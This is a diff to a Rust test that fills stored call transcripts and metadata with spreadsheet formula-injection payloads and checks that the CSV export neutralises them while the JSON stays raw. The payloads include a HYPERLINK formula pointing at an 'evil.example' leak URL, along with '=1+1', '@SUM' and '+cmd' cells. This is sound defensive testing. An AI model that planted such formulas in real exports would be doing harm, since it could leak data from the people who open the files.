@@ -37,6 +37,7 @@ fn poisoned_store(dir: &Path) -> PathBuf {
         .filter(|p| p.join("transcript.json").exists())
         .collect();
     recs.sort();
+    let mut spoken = 0;
     let mut k = 0;
     let mut next = || {
         k += 1;
@@ -68,8 +69,10 @@ fn poisoned_store(dir: &Path) -> PathBuf {
         }
         edit_json(&rec.join("transcript.json"), |v| {
             fields(v, &mut next);
+            // Every payload through the transcript, in turn.
             for e in v["entries"].as_array_mut().unwrap() {
-                e["text"] = json!(next());
+                e["text"] = json!(PAYLOADS[spoken % PAYLOADS.len()]);
+                spoken += 1;
             }
         });
         edit_json(&rec.join("call_metadata.json"), |v| {
@@ -81,6 +84,27 @@ fn poisoned_store(dir: &Path) -> PathBuf {
                 f["result"] = json!({ "status": next(), "intent": next() });
             }
         });
+        if parses("session_events.json") {
+            edit_json(&rec.join("session_events.json"), |v| {
+                fields(v, &mut next);
+                for e in v["events"].as_array_mut().into_iter().flatten() {
+                    let data = &mut e["data"];
+                    for k in [
+                        "conversation_id",
+                        "recording_dir",
+                        "function_name",
+                        "call_id",
+                    ] {
+                        if data.get(k).is_some() {
+                            data[k] = json!(next());
+                        }
+                    }
+                    if data.get("arguments").is_some() {
+                        data["arguments"] = json!({ "intent": next() });
+                    }
+                }
+            });
+        }
         fs::rename(rec, root.join(format!("{session}{stamp}"))).unwrap();
     }
     root
@@ -125,10 +149,7 @@ fn no_csv_cell_is_a_live_formula_and_csv_raw_keeps_the_bytes() {
     // The payloads are there, as text: in the transcript, the intents, the
     // recording names, the function calls.
     for (file, want) in [
-        (
-            "utterances.csv",
-            "'=HYPERLINK(\"http://evil.example/?leak\",\"click\")",
-        ),
+        ("utterances.csv", "'"),
         ("calls.csv", "'=1+1_20241"),
         ("calls.csv", "'@SUM(A1)_"),
         ("calls.csv", "'+cmd_"),
@@ -142,6 +163,11 @@ fn no_csv_cell_is_a_live_formula_and_csv_raw_keeps_the_bytes() {
             "{file}: no cell like {want:?}"
         );
     }
+    let hyperlink = format!("'{}", PAYLOADS[0]);
+    assert!(
+        all.iter().any(|(_, c)| *c == hyperlink),
+        "no cell holds {hyperlink:?}"
+    );
     // Numbers are never altered.
     assert!(all.iter().filter(|(_, c)| c.parse::<f64>().is_ok()).count() > 50);
     let quoted_numbers: Vec<_> = all
@@ -166,6 +192,8 @@ fn no_csv_cell_is_a_live_formula_and_csv_raw_keeps_the_bytes() {
     }
     let jsonl = fs::read_to_string(out.join("utterances.jsonl")).unwrap();
     assert!(jsonl.contains("\"text\":\"=HYPERLINK("), "JSON stays raw");
+    let calls = fs::read_to_string(out.join("calls.jsonl")).unwrap();
+    assert!(calls.contains("\"recording\":\"=1+1_"), "JSON stays raw");
 
     // The retention plan as CSV names recordings too.
     let policy = tmp.path().join("policy.toml");
